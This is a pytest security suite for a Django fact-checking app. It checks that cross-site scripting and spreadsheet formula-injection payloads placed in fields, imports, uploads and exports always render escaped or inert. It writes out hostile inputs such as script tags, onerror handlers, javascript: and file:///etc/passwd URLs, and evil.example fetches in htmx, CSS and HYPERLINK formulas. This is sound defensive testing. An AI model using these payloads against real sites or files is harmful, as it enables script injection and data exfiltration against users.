"""Cross-site scripting: the payload corpus in every user-editable field and in imported
articles, then every page, htmx fragment, admin page and export the URLconf offers.

Fields come from the models (tests/security_support.free_text_fields), URLs from the URLconf,
fragments from the ``hx-target`` ids found on the pages: views that land later are covered
without editing this file. See tests/xss_payloads.py for the corpus and the marker scheme.
"""

import itertools
import re

import pytest
from django.test import Client
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from django.utils.html import escape

from annotations.importers import import_document
from annotations.models import Article, Claim, Source
from tests import security_support as support
from tests.factories import ClaimFactory, UserFactory
from tests.xss_payloads import MARKER, PAYLOADS, marker, payload

pytestmark = pytest.mark.django_db

# Fields a reviewer sees somewhere in the app (reader, claim panel, sources, exports); each must
# show its payload escaped, so the test cannot pass because a field is simply never shown.
# An admin must see every field (the admin site shows them all), except these:
NEVER_SHOWN = {"axes.AccessLog.session_hash"}
REVIEWER_SEES = {
    "annotations.Article.title",
    "annotations.Article.standfirst",
    "annotations.Article.byline",
    "annotations.Publisher.name",
    "annotations.Article.section",
    "annotations.Article.body",
    "annotations.Article.notes",
    "annotations.Claim.statement",
    "annotations.Claim.claimant",
    "annotations.Claim.verdict_explanation",
    "annotations.Claim.sent_back_reason",
    "annotations.Citation.quote",
    "annotations.Citation.locator",
    "annotations.Citation.note",
    "annotations.Comment.body",
    "annotations.ClaimFigure.counted",
    "annotations.ClaimFigure.period",
    "annotations.ClaimFigure.note",
    "annotations.ClaimFamily.statement",
    "annotations.FamilyEvent.note",
    "annotations.Source.title",
    "annotations.Source.publisher",
    "annotations.Source.notes",
    "annotations.Source.reliability_rationale",
    "annotations.Verdict.label",
    "annotations.User.username",
    "import.txt.title",
    "import.html.title",
}
# Fields the issue names explicitly: the generic field discovery must find every one.
NAMED_FIELDS = {
    "annotations.Article": {"title", "standfirst", "byline", "section", "notes"},
    "annotations.Publisher": {"name"},
    "annotations.Claim": {"statement", "claimant", "verdict_explanation", "sent_back_reason"},
    "annotations.Source": {"title", "publisher", "notes", "reliability_rationale"},
    "annotations.Citation": {"quote", "locator", "note"},
    "annotations.Comment": {"body"},
    "annotations.Verdict": {"label", "description"},
    "annotations.User": {"first_name", "last_name"},
}
MAX_FRAGMENT_FETCHES = 400


class Placement:
    """Which payload went into which field, under which marker."""

    def __init__(self):
        self.fields: list[str] = []
        self.by_marker: dict[str, tuple[str, str]] = {}  # marker → (field, payload text)

    def value(self, label: str, field_name: str, max_length: int | None) -> str:
        qualified = f"{label}.{field_name}"
        field_number = len(self.fields)
        self.fields.append(qualified)
        if label == "annotations.Article" and field_name == "body":
            # One paragraph per payload, after a neutral paragraph for the default claim.
            texts = [self._place(qualified, field_number, n) for n in range(len(PAYLOADS))]
            return "\n\n".join(["The ferry timetable changes on Monday, the council said.", *texts])
        # Rotate the starting payload so short fields do not all get the same one.
        order = itertools.islice(
            itertools.cycle(range(len(PAYLOADS))), field_number * 7, field_number * 7 + 400
        )
        chosen, length = [], 0
        for number in order:
            text = payload(field_number, number)
            if max_length and length + len(text) + 1 > max_length:
                if chosen:
                    break
                continue
            chosen.append(self._place(qualified, field_number, number))
            length += len(text) + 1
            if len(chosen) == len(PAYLOADS):
                break
        return " ".join(chosen)

    def _place(self, qualified: str, field_number: int, number: int) -> str:
        text = payload(field_number, number)
        self.by_marker[marker(field_number, number)] = (qualified, text)
        return text

    def payloads(self) -> list[str]:
        return [text for _, text in self.by_marker.values()]

    def fields_of(self, markers) -> set[str]:
        return {self.by_marker[m][0] for m in markers if m in self.by_marker}


def _html_file(placement: Placement) -> bytes:
    title = placement.value("import.html", "title", 200)
    paragraphs = [
        placement.value("import.html", f"paragraph{n}", 400) for n in range(len(PAYLOADS) // 6)
    ]
    author = placement.value("import.html", "author", 150)
    body = "".join(f"<p>{escape(text)} The harbour opens at six.</p>" for text in paragraphs)
    return (
        "<html><head>"
        f"<title>{escape(title)}</title>"
        f'<meta name="author" content="{escape(author)}">'
        '<link rel="canonical" href="javascript:alert(\'canonical\')">'
        "</head><body><article>"
        f"<h1>{escape(title)}</h1>"
        # Live markup too: the importer must keep only text.
        "<script>alert('live-script')</script><img src=x onerror=\"alert('live-img')\">"
        f"{body}</article></body></html>"
    ).encode()


def _text_file(placement: Placement) -> bytes:
    title = placement.value("import.txt", "title", 200)
    paragraphs = [
        placement.value("import.txt", f"paragraph{n}", 400) for n in range(len(PAYLOADS) // 6)
    ]
    return "\n\n".join([title, *paragraphs]).encode()


@pytest.fixture
def world(admin_user):
    placement = Placement()
    objects = support.build_world(placement.value)
    # A user known by a payload username (the admin forms refuse these; the database does not).
    username = placement.value("annotations.User", "username", 150)
    objects["user_by_name"] = UserFactory(username=username)
    claim = objects["claim"]
    claim.assignee = objects["user_by_name"]
    claim.save()
    # A claim whose quote is exactly one payload paragraph of the body.
    body = claim.article.body
    quoted = placement.payloads()[len(placement.payloads()) // 2]
    if quoted in body:
        extra = Claim(created_by=objects["user"])
        start = body.index(quoted)
        extra.anchor_to(claim.article, start, start + len(quoted))
        extra.save()
    imported = []
    for name, data in (
        ("payloads.txt", _text_file(placement)),
        ("payloads.html", _html_file(placement)),
    ):
        outcome = import_document(name, data, user=admin_user)
        assert outcome.status == "created", outcome.line()
        imported.append(outcome.article)
    # Approved, so it is published: the report's ClaimReview JSON-LD block carries its text.
    Claim.objects.filter(pk=claim.pk).update(
        state=Claim.State.APPROVED, approved_by=admin_user, approved_at=timezone.now()
    )
    # Claims on imported articles, so their panels render too.
    for article in imported:
        ClaimFactory(article=article, created_by=objects["user"])
    objects["imported"] = imported
    objects["placement"] = placement
    return objects


def _world_variants(objects):
    yield objects
    for article in objects["imported"]:
        claim = article.claims.first()
        yield {**objects, "article": article, "claim": claim}


def _get(client, url, **headers):
    return client.get(url, headers=headers) if headers else client.get(url)


def _hx_targets(html: str) -> set[str]:
    targets = set(re.findall(r'hx-target="#([\w-]+)"', html))
    return targets | set(re.findall(r'id="([\w-]+)"[^>]*hx-(?:get|post|swap)', html))


def _hx_get_urls(html: str) -> set[tuple[str, str]]:
    found = set()
    for tag in re.findall(r"<[^>]+hx-get=\"[^\"]+\"[^>]*>", html):
        url = re.search(r'hx-get="([^"]+)"', tag).group(1)
        target = re.search(r'hx-target="#?([\w-]+)"', tag)
        if url.startswith("/") and not url.startswith("//"):
            found.add((url.replace("&amp;", "&"), target.group(1) if target else ""))
    return found


def _get_form_params(html: str) -> set[str]:
    names = set()
    for form in re.findall(r"<form\b[^>]*>.*?</form>", html, flags=re.DOTALL | re.IGNORECASE):
        opening = form[: form.index(">")]
        if 'method="post"' in opening.lower():
            continue
        names.update(re.findall(r'<(?:input|select|textarea)\b[^>]*name="([\w-]+)"', form))
    return names - {"csrfmiddlewaretoken"}


def _fetch_everything(client, objects, user) -> list[tuple[str, object]]:
    """GET every page, fragment, admin page and export reachable with these objects."""
    responses: dict[str, object] = {}
    reflected = payload(999, 0)

    def fetch(label, url, **headers):
        if label in responses:
            return None
        response = _get(client, url, **headers)
        responses[label] = response
        return response

    entries = [e for e in support.app_url_entries() if e.name not in support.NEVER_FETCH]
    urls = []
    for variant in _world_variants(objects):
        found, _ = support.reversible_urls(entries, variant)
        urls.extend(found)
    fragment_fetches = 0
    seen_urls = set()
    for entry, url in urls:
        if url in seen_urls:
            continue
        seen_urls.add(url)
        candidates = [url]
        if "export" in entry.name and "format" not in entry.kwargs:
            candidates += [f"{url}?format={name}" for name in support.export_formats()]
        if "export" in entry.name or "report" in entry.name:
            # Drafts (every claim, with comments) appear only in the internal scope.
            separator = "&" if "?" in url else "?"
            candidates += [f"{c}{'&' if '?' in c else separator}scope=internal" for c in candidates]
        for candidate in candidates:
            response = fetch(candidate, candidate)
            # A hostile HX-Target: never a crash, never echoed as markup.
            fetch(f"{candidate} #hostile", candidate, HX_Request="true", HX_Target=reflected)
            if response is None or response.status_code != 200 or not support.is_html(response):
                continue
            html = support.response_text(response)
            for target in sorted(_hx_targets(html)):
                if fragment_fetches < MAX_FRAGMENT_FETCHES:
                    fragment_fetches += 1
                    fetch(f"{candidate} #{target}", candidate, HX_Request="true", HX_Target=target)
            for hx_url, target in sorted(_hx_get_urls(html)):
                if fragment_fetches < MAX_FRAGMENT_FETCHES and "logout" not in hx_url:
                    fragment_fetches += 1
                    fetch(f"hx {hx_url} #{target}", hx_url, HX_Request="true", HX_Target=target)
            for param in sorted(_get_form_params(html) | {"q", "search", "page", "sort"}):
                separator = "&" if "?" in candidate else "?"
                from urllib.parse import quote

                reflected_url = f"{candidate}{separator}{param}={quote(reflected)}"
                fetch(reflected_url, reflected_url)
    for entry, url in support.reversible_urls(support.admin_url_entries(), objects)[0]:
        if entry.name in support.NEVER_FETCH:
            continue
        fetch(url, url)
        if entry.name.endswith("_changelist"):
            from urllib.parse import quote

            fetch(f"{url}?q=", f"{url}?q={quote(reflected)}")
    # The files the admin writes (import-export), in every format each admin offers.
    for label, response, _format in support.admin_export_downloads(client, user):
        responses[label] = response
    return list(responses.items())


def _problems(label, response, placed_payloads) -> tuple[list[str], set[str]]:
    problems = []
    if response.status_code >= 500:
        error = getattr(response, "exc_info", None)
        why = f" ({error[0].__name__}: {str(error[1])[:200]})" if error else ""
        return [f"{label}: server error {response.status_code}{why}"], set()
    if response.status_code != 200:
        return [], set()
    text = support.response_text(response)
    if not support.is_html(response):
        content_type = response.get("Content-Type", "")
        if "html" in content_type or "svg" in content_type or "xml" in content_type:
            problems.append(f"{label}: user data served as {content_type}")
        if response.get("X-Content-Type-Options") != "nosniff":
            problems.append(f"{label}: download without X-Content-Type-Options: nosniff")
        if ("css" in content_type or "javascript" in content_type) and MARKER.search(text):
            problems.append(f"{label}: user text inside a {content_type} response")
        return problems, set(MARKER.findall(text))
    audit = support.audit_html(text, MARKER)
    problems += [f"{label}: {finding}" for finding in audit.injections]
    stripped = support.strip_json_scripts(text)
    # Markup must never appear raw. (A raw quote is harmless in text; in an attribute it would
    # make a new attribute, which the parser above reports.)
    for placed in placed_payloads:
        if "<" in placed and placed in stripped:
            problems.append(f"{label}: payload rendered unescaped: {placed[:120]}")
    return problems, audit.text_markers


@pytest.mark.parametrize("role", ["admin", "reviewer"])
def test_no_page_fragment_or_export_renders_a_payload_unescaped(world, role, request):
    user = request.getfixturevalue("admin_user" if role == "admin" else "reviewer")
    # A view that crashes is reported with the others instead of stopping the walk.
    client = Client(raise_request_exception=False)
    client.force_login(user)
    placement = world["placement"]
    placed = placement.payloads() + [payload(999, 0)]
    problems, seen = [], set()
    responses = _fetch_everything(client, world, user)
    export_markers = set()
    for label, response in responses:
        found, markers = _problems(label, response, placed)
        problems += found
        seen |= markers
        if "export" in label:
            export_markers |= markers
    assert not problems, "\n".join(dict.fromkeys(problems))
    if any("export" in label for label, _ in responses):
        assert export_markers, "the exports were fetched but showed no payload"
    if role == "admin":
        admin_files = [r for label, r in responses if label.startswith("admin export")]
        assert admin_files and all(r.status_code == 200 for r in admin_files)

    # Not vacuous: the pages really showed the payloads, escaped.
    reader = client.get(world["article"].get_absolute_url())
    reader_html = support.response_text(reader)
    body_payloads = [t for f, t in placement.by_marker.values() if f == "annotations.Article.body"]
    missing = [text for text in body_payloads if escape(text) not in reader_html]
    assert not missing, f"payloads not shown escaped on the reader page: {missing[:5]}"
    assert len(body_payloads) == len(PAYLOADS) >= 40
    must = set(placement.fields) - NEVER_SHOWN if role == "admin" else REVIEWER_SEES
    unseen = must - placement.fields_of(seen)
    assert not unseen, f"fields whose payload was never rendered: {sorted(unseen)}"
    imported_titles = {article.title for article in world["imported"]}
    for title in imported_titles:
        assert escape(title) in "".join(
            support.response_text(r) for _, r in responses if r.status_code == 200
        ), f"imported title not rendered: {title[:80]}"


def test_field_discovery_covers_every_named_field():
    from django.apps import apps

    for label, names in NAMED_FIELDS.items():
        found = {name for name, _ in support.free_text_fields(apps.get_model(label))}
        assert names <= found, f"{label}: not discovered {sorted(names - found)}"


def test_every_model_of_the_app_gets_payloads(world):
    """A new model with text fields must be added to security_support.build_world."""
    from django.apps import apps

    filled = {field.rsplit(".", 1)[0] for field in world["placement"].fields}
    for model in apps.get_app_config("annotations").get_models():
        if model.__name__.startswith("Historical") or not support.free_text_fields(model):
            continue
        assert model._meta.label in filled, f"{model._meta.label} has no payloads"


def test_importer_keeps_only_text_from_html_files(world):
    article = next(a for a in world["imported"] if a.source_name.endswith(".html"))
    # Live markup is dropped ...
    for text in (article.title, article.byline, article.body, article.standfirst, article.notes):
        assert "live-script" not in text and "live-img" not in text
    # ... while text that merely looks like markup (entities in the file) is kept, as text.
    assert MARKER.search(article.title) and "<" in article.title
    assert not article.url.lower().startswith("javascript:")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_source_urls_with_script_schemes_cannot_be_saved(url):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        Source.objects.create(title="Bad", url=url)
    with pytest.raises(ValidationError):
        Source.objects.create(title="Bad archive", url="https://ok.example/a", archive_url=url)
    assert not Source.objects.filter(title__startswith="Bad").exists()


@pytest.mark.parametrize(
    "url", ["javascript:alert('articleurl')", " JavaScript:alert('articleurl')", "data:text/html,x"]
)
def test_article_url_with_a_script_scheme_is_never_a_link(admin_user, url):
    article = Article.objects.create(
        title="Ferry times", body="The ferry leaves at nine.", raw_text="raw", url=url
    )
    ClaimFactory(article=article)
    client = Client(raise_request_exception=False)  # crashes are the other test's business
    client.force_login(admin_user)
    entries = [e for e in support.app_url_entries() if e.name not in support.NEVER_FETCH]
    world = {"article": article, "claim": article.claims.first()}
    checked = 0
    for _entry, page_url in support.reversible_urls(entries, world)[0]:
        response = client.get(page_url)
        if response.status_code == 200 and support.is_html(response):
            audit = support.audit_html(support.response_text(response), MARKER)
            assert not [i for i in audit.injections if "script URL" in i], page_url
            checked += 1
    assert checked >= 2
    try:
        reverse("annotations:export", kwargs={"format": "html"})
    except NoReverseMatch:
        return
    for export_format in ("html", "markdown"):
        export = reverse("annotations:export", kwargs={"format": export_format})
        for scope in ("internal", "published"):
            response = client.get(export, {"article": article.pk, "scope": scope})
            assert response.status_code == 200
            text = support.response_text(response)
            if export_format == "html":
                audit = support.audit_html(text, MARKER)
                assert not [i for i in audit.injections if "script URL" in i], scope
            else:  # a Markdown link or autolink would become one when pasted into a CMS
                squashed = re.sub(r"\s+", "", text).lower()
                assert "](javascript:" not in squashed and "<javascript:" not in squashed
                assert "](data:" not in squashed


def test_report_html_and_pdf_source_keep_payloads_inert(world):
    """The HTML report (also the PDF's source) in both scopes, with its ClaimReview JSON-LD."""
    exporters = pytest.importorskip("annotations.exporters.html")
    from annotations.exporters.scope import Scope

    placed = world["placement"].payloads()
    problems, json_ld = [], 0
    for scope in Scope:
        for inline_css in (False, True):
            document = exporters.render_report(Article.objects.all(), scope, inline_css=inline_css)
            audit = support.audit_html(document, MARKER)
            problems += [f"{scope} report: {finding}" for finding in audit.injections]
            stripped = support.strip_json_scripts(document)
            problems += [
                f"{scope} report: unescaped {text[:80]}"
                for text in placed
                if "<" in text and text in stripped
            ]
            json_ld += sum(bool(MARKER.search(block)) for block in audit.json_blocks)
    assert not problems, "\n".join(problems)
    assert json_ld, "no JSON-LD block carried a payload: the approved claim was not exported"


def test_pdf_renderer_fetches_nothing_a_payload_names(world):
    pdf = pytest.importorskip("annotations.exporters.pdf")
    from annotations.exporters.html import render_report
    from annotations.exporters.scope import Scope

    fetcher = pdf.StaticOnlyFetcher()
    article = Article.objects.filter(pk=world["article"].pk)
    data = pdf.render_pdf(render_report(article, Scope.INTERNAL), fetcher)
    assert data.startswith(b"%PDF")
    refused = [url for url, allowed in fetcher.requests if not allowed]
    assert not refused, f"the PDF renderer tried to fetch {refused}"


KEEP_FIELDS = {"csrfmiddlewaretoken", "version", "start", "end", "verdict", "source", "relation"}


def test_form_posts_echo_payloads_back_escaped(world, admin_user):
    """Every POST form on the app's pages, filled with payloads: the answer (a re-rendered
    partial with errors, or the saved result) shows them as text, never as markup."""
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    pages = [
        world["article"].get_absolute_url(),
        reverse("annotations:claim-detail", args=[world["article"].pk, world["claim"].pk]),
    ]
    entries = [e for e in support.app_url_entries() if e.name not in support.NEVER_FETCH]
    for entry, url in support.reversible_urls(entries, world)[0]:
        if entry.name.startswith("annotations:source") or entry.name.endswith("list"):
            pages.append(url)
    posted, problems = 0, []
    for page_number, page in enumerate(dict.fromkeys(pages)):
        response = client.get(page, headers={"HX-Request": "true"})
        html = support.response_text(response)
        for form_number, (action, fields, target) in enumerate(support.post_forms(html)):
            if not action or "logout" in action or action.startswith(("http", "//")):
                continue
            number = 900 + (page_number * 10 + form_number) % 99
            text = payload(number, form_number % len(PAYLOADS))
            data = {name: value if name in KEEP_FIELDS else text for name, value in fields.items()}
            headers = {"HX-Request": "true", "HX-Target": target} if target else {}
            answer = client.post(action, data, headers=headers)
            posted += 1
            found, _ = _problems(f"POST {action} from {page}", answer, [text])
            problems += found
    assert posted >= 3, "no POST forms found on the app's pages"
    assert not problems, "\n".join(dict.fromkeys(problems))
    # Whatever was saved is shown escaped on the pages too.
    for page in dict.fromkeys(pages):
        found, _ = _problems(page, client.get(page), [])
        problems += found
    assert not problems, "\n".join(problems)


def test_uploaded_file_names_are_shown_escaped(admin_user, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from annotations import jobs
    from annotations.models import Job

    settings.FACTCHECK_RATE_LIMITS = {}
    try:
        url = reverse("admin:annotations_article_upload")
    except NoReverseMatch:
        pytest.skip("the admin upload has not landed")
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    names = [payload(950 + n, n) + ext for n, ext in ((4, ".txt"), (5, ".exe"), (13, ".html"))]
    files = [
        SimpleUploadedFile(name, f"Title {n}\n\nThe pier opens at {n}.\n".encode())
        for n, name in enumerate(names)
    ]
    started = client.post(url, {"files": files})  # a background job imports them
    assert started.status_code == 302
    jobs.execute(Job.objects.get().pk)
    response = client.get(started.url)
    problems, seen = _problems("upload result", response, names)
    assert not problems, "\n".join(problems)
    assert len(seen) >= 2  # the names were really shown


def test_source_csv_import_preview_shows_payloads_escaped(admin_user):
    """The admin's CSV import previews every row (or lists the bad ones) before saving."""
    import csv
    import io

    from django.core.files.uploadedfile import SimpleUploadedFile

    try:
        url = reverse("admin:annotations_source_import")
    except NoReverseMatch:
        pytest.skip("the source CSV import has not landed")
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)

    def upload(rows):
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["url", "title", "publisher", "kind", "reliability_rationale", "notes"])
        writer.writerows(rows)
        data = out.getvalue().encode()
        return client.post(
            url,
            {
                "format": "0",
                "resource": "0",
                "import_file": SimpleUploadedFile("sources.csv", data, "text/csv"),
            },
        )

    placed, rows = [], []
    for row in range(4):
        texts = [payload(960 + row, (row * 4 + n) % len(PAYLOADS)) for n in range(4)]
        placed += texts
        rows.append([f"https://stats.example/csv-{row}", *texts[:2], "other", *texts[2:]])
    preview = upload(rows)
    assert preview.status_code == 200
    problems, seen = _problems("CSV import preview", preview, placed)
    assert not problems, "\n".join(problems)
    assert len(seen) >= 8, "the preview did not show the imported values"

    bad = [payload(970, 19), payload(971, 0)]  # a javascript: URL is refused and echoed
    errors = upload([[bad[0], bad[1], "", "other", "", ""]])
    problems, seen = _problems("CSV import errors", errors, bad)
    assert not problems, "\n".join(problems)
    assert seen, "the error listing did not show the refused row"


@pytest.mark.parametrize(
    ("html", "injected"),
    [
        ("<p>&lt;script&gt;alert('xss001p01')&lt;/script&gt;</p>", False),
        ("<input value=\"&quot; onmouseover=&quot;alert('xss001p01')\">", False),
        ("<textarea>&lt;/textarea&gt;&lt;b&gt;xss001p01</textarea>", False),
        ('<a href="/articles/?q=%3Cb%3Exss001p01" title="&lt;b&gt;xss001p01">x</a>', False),
        ('<mark data-quote="xss001p01 &quot;">x</mark>', False),
        (
            '<script type="application/ld+json">{"a": "\\u003c/script\\u003e xss001p01"}</script>',
            False,
        ),
        ("<p><script>alert('xss001p01')</script></p>", True),
        ('<input value="" onmouseover="alert(\'xss001p01\')" x="">', True),
        ("<img src=x onerror=alert('xss001p01')>", True),
        ('<a href="javascript:alert(1)">x</a>', True),
        ('<a href=" JaVa&#x09;Script:alert(1)">x</a>', True),
        ('<div hx-get="/admin/" hx-trigger="load" id="xss001p01"></div>', True),
        ("<div hx-on:click=\"alert('xss001p01')\"></div>", True),
        ('<div data-hx-get="//evil.example/xss001p01"></div>', True),
        ("<!-- xss001p01 -->", True),
        ("<style>@import 'http://evil.example/xss001p01.css';</style>", True),
        (
            '<script type="application/ld+json">{"a": "</script><script>alert(\'xss001p01\')'
            '</script>"}</script>',
            True,
        ),
        ("<xss001p01>", True),
    ],
)
def test_the_html_audit_tells_escaped_text_from_injected_markup(html, injected):
    audit = support.audit_html(html, MARKER)
    assert bool(audit.injections) is injected, audit.injections


def test_markdown_report_rendered_by_a_commonmark_cms_stays_text(world, admin_user):
    """The Markdown report is pasted into CMSs that render raw HTML: rendered with CommonMark
    (HTML allowed), no payload becomes markup and each still reads as text."""
    markdown_it = pytest.importorskip("markdown_it")
    try:
        url = reverse("annotations:export", kwargs={"format": "markdown"})
    except NoReverseMatch:
        pytest.skip("the Markdown export has not landed")
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    response = client.get(url, {"scope": "internal"})
    assert response.status_code == 200
    html = markdown_it.MarkdownIt("commonmark").render(support.response_text(response))
    audit = support.audit_html(html, MARKER)
    assert not audit.injections, "\n".join(audit.injections)
    placed = world["placement"]
    shown = placed.fields_of(audit.text_markers)
    assert {"annotations.Article.title", "annotations.Claim.statement"} <= shown
    # Backslash escapes are undone by the renderer: the reader sees the original text.
    from html import unescape

    text_content = " ".join(unescape(re.sub(r"<[^>]+>", " ", html)).split())
    for marker_text in audit.text_markers:
        field, text = placed.by_marker.get(marker_text, (None, None))
        if field == "annotations.Claim.statement":
            assert " ".join(text.split()) in text_content, text


def _run_admin_actions(world, admin_user):
    """(label, response) for every admin action of every registered model, on up to three
    objects each, following redirects to the page the action leads to."""
    from django.contrib import admin as django_admin
    from django.test import RequestFactory

    from tests.factories import SourceFactory

    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    SourceFactory(title=payload(980, 1), publisher=payload(980, 2))  # something to merge
    request = RequestFactory().get("/")
    request.user = admin_user
    results = []
    for model, model_admin in django_admin.site._registry.items():
        pks = [str(pk) for pk in model._default_manager.values_list("pk", flat=True)[:3]]
        if not pks:
            continue
        meta = model._meta
        changelist = reverse(f"admin:{meta.app_label}_{meta.model_name}_changelist")
        for action in model_admin.get_actions(request):
            data = {"action": action, "_selected_action": pks, "index": "0"}
            response = client.post(changelist, data, follow=True)
            results.append((f"admin action {model.__name__}.{action}", response))
    return results


def test_admin_action_pages_show_payloads_escaped(world, admin_user):
    """Every admin action (merge, export, retire, unlock, delete…) on objects full of payloads:
    the confirmation or intermediate page, and the page it leads to, stay inert."""
    placed = world["placement"].payloads()
    results = _run_admin_actions(world, admin_user)
    assert len(results) >= 4
    problems = []
    for label, response in results:
        if response.status_code < 500:
            problems += _problems(label, response, placed)[0]
    assert not problems, "\n".join(dict.fromkeys(problems))


def test_every_admin_action_runs_without_a_server_error(world, admin_user):
    errors = []
    for label, response in _run_admin_actions(world, admin_user):
        if response.status_code >= 500:
            errors += _problems(label, response, [])[0]
    assert not errors, "\n".join(errors)


# --- Formula injection: the same walk over every CSV and spreadsheet the app writes -----------

FORMULA_PAYLOADS = [
    '=HYPERLINK("//evil.example/{m}","x")',
    "+{m}+1",
    "-{m}-1",
    "@SUM({m})",
    "\t={m}",
    "\r={m}",
    "\uff1d{m}",
    "\uff0b{m}",
    "\uff0d{m}",
    "\uff20{m}",
]


def _csv_and_spreadsheet_downloads(client, world, user) -> list[tuple[str, object]]:
    """Every report export and admin export that answers with a CSV or spreadsheet."""
    found = []
    entries = [e for e in support.app_url_entries() if "export" in e.name]
    for entry, url in support.reversible_urls(entries, world)[0]:
        candidates = [url]
        if "format" not in entry.kwargs:
            candidates = [f"{url}?format={name}" for name in support.export_formats()]
        for candidate in candidates:
            for scope in ("internal", "published"):
                separator = "&" if "?" in candidate else "?"
                labelled = f"{candidate}{separator}scope={scope}"
                found.append((labelled, client.get(labelled)))
    found += [(label, r) for label, r, _ in support.admin_export_downloads(client, user)]
    return [(label, r) for label, r in found if support.spreadsheet_cells(r) is not None]


def test_no_csv_or_spreadsheet_cell_starts_a_formula(admin_user):
    """A formula in every text field of every model; every CSV or spreadsheet the app offers
    (report exports and each admin export in each format) shows each one as text."""
    from annotations.exporters._common import FORMULA_STARTS, restore

    placed: dict[str, tuple[str, str]] = {}  # marker → (field, text)

    def formula(label, field_name, max_length):
        number = len(placed)
        text = FORMULA_PAYLOADS[number % len(FORMULA_PAYLOADS)].replace("{m}", marker(number, 0))
        if max_length and len(text) > max_length:
            text = text[:max_length]
        placed[marker(number, 0)] = (f"{label}.{field_name}", text)
        if label == "annotations.Article" and field_name == "body":
            return text + "\n\nThe ferry timetable changes on Monday, the council said."
        return text

    world = support.build_world(formula)
    Claim.objects.update(
        state=Claim.State.APPROVED, approved_by=admin_user, approved_at=timezone.now()
    )
    client = Client(raise_request_exception=False)
    client.force_login(admin_user)
    downloads = _csv_and_spreadsheet_downloads(client, world, admin_user)
    assert any(label.startswith("admin export") for label, _ in downloads)
    assert any(not label.startswith("admin export") for label, _ in downloads)
    problems, shown = [], set()
    for label, response in downloads:
        for cell in support.spreadsheet_cells(response):
            if cell.startswith(FORMULA_STARTS):
                problems.append(f"{label}: a cell starts a formula: {cell[:80]!r}")
            for found in MARKER.findall(cell):
                field, text = placed.get(found, ("", ""))
                if restore(cell) == text:
                    shown.add(field)
    assert not problems, "\n".join(dict.fromkeys(problems))
    # Not vacuous: the payloads were really in the files, whole, as text.
    must = {
        "annotations.Source.title",
        "annotations.Source.publisher",
        "annotations.Source.notes",
        "annotations.Source.reliability_rationale",
        "annotations.Claim.statement",
        "annotations.Claim.claimant",
        "annotations.Article.title",
        "annotations.Citation.quote",
        "annotations.Citation.note",
    }
    assert must <= shown, f"payloads never exported whole: {sorted(must - shown)}"


def test_the_api_serves_payloads_as_data_never_as_html(world, admin_user):
    """Every API URL read with a token answers JSON (or JSON-LD, or problem details) under
    nosniff, never HTML a browser would render; the payloads come back as the strings stored.
    The documentation page is the API's one HTML page, and shows no stored data."""
    from tests.api_support import token_client

    client = token_client(admin_user)
    urls, _ = support.reversible_urls(support.app_url_entries(), world)
    api_urls = [url for _entry, url in urls if url.startswith("/api/")]
    assert len(api_urls) >= 10
    placed = world["placement"].payloads()
    served, shown = [], 0
    for url in api_urls:
        response = client.get(url)
        kind = response.get("Content-Type", "")
        if url.endswith("/docs/"):
            assert not MARKER.search(support.response_text(response)), url
            continue
        if not kind.startswith(("application/json", "application/ld+json", "application/problem")):
            served.append(f"{url}: {kind}")
        assert response["X-Content-Type-Options"] == "nosniff", url
        if response.status_code == 200:
            strings = "\n".join(_strings(response.json()))
            shown += sum(1 for text in placed if text in strings)
    assert not served, "API responses not served as JSON:\n" + "\n".join(served)
    assert shown, "the API showed none of the stored payloads: the test would be vacuous"


def _strings(data):
    """Every string in a JSON document."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from _strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from _strings(value)
